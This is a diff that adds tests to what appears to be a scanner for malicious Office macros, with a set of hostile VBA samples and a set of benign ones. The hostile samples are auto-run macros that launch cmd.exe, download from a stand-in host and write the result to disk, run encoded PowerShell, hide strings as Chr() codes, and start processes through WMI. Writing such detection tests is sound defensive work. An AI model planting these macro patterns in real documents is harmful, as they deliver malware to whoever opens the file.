@@ -131,3 +131,35 @@ def test_any_bytes_after_a_true_beginning(raw: bytes) -> None:
     ):
         verdict = ENGINE.judge(start + raw)
         assert not [one for one in verdict.findings if one.rule.endswith(".failed")], verdict
+
+
+EVIL_MACROS = {
+    "starts a shell": 'Sub AutoOpen()\r\nShell "cmd.exe /c calc", 0\r\nEnd Sub',
+    "fetches and writes": 'Sub Document_Open()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://a.example"\r\n'
+    'Set s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a"\r\nEnd Sub',
+    "waits for a click": 'Sub Button1_Click()\r\nCreateObject("WScript.Shell").Run "powershell -enc AAAA"\r\nEnd Sub',
+    "letters as numbers": "Sub AutoOpen()\r\na = "
+    + " & ".join(f"Chr({code})" for code in range(97, 120))
+    + "\r\nEnd Sub",
+    "by management": 'Sub Workbook_Open()\r\nGetObject("winmgmts:").Get("Win32_Process").Create "calc"\r\nEnd Sub',
+}
+HONEST_MACROS = {
+    "greets": 'Sub Workbook_Open()\r\nMsgBox "Bonjour" & Chr(13) & Chr(10) & "Planning"\r\nEnd Sub',
+    "calls its parts": 'Sub Total()\r\nCall Somme\r\nApplication.Run "Trier"\r\nEnd Sub',
+    "exports": 'Sub Export()\r\nOpen "C:\\temp\\a.csv" For Output As #1\r\nPrint #1, "a;b"\r\nClose #1\r\nEnd Sub',
+    "copies sheets": "Private Sub Worksheet_Change(ByVal Target As Range)\r\nSheets(1).Copy\r\nEnd Sub",
+    "class of a sheet": 'Attribute VB_Base = "0{00020820-0000-0000-C000-000000000046}"\r\nSub A()\r\nEnd Sub',
+    "rates": 'Sub Taux()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "https://a.example"\r\nEnd Sub',
+}
+
+
+@pytest.mark.parametrize("name", EVIL_MACROS)
+def test_macros_that_attack_are_found(name: str) -> None:
+    found = ENGINE.judge(document_with_macro("a", macro=EVIL_MACROS[name]), "a.docm")
+    assert found.score >= 0.5, found.findings
+
+
+@pytest.mark.parametrize("name", HONEST_MACROS)
+def test_macros_of_every_day_are_not_alarming(name: str) -> None:
+    found = ENGINE.judge(document_with_macro("a", macro=HONEST_MACROS[name]), "a.docm")
+    assert found.score < 0.5, found.findings
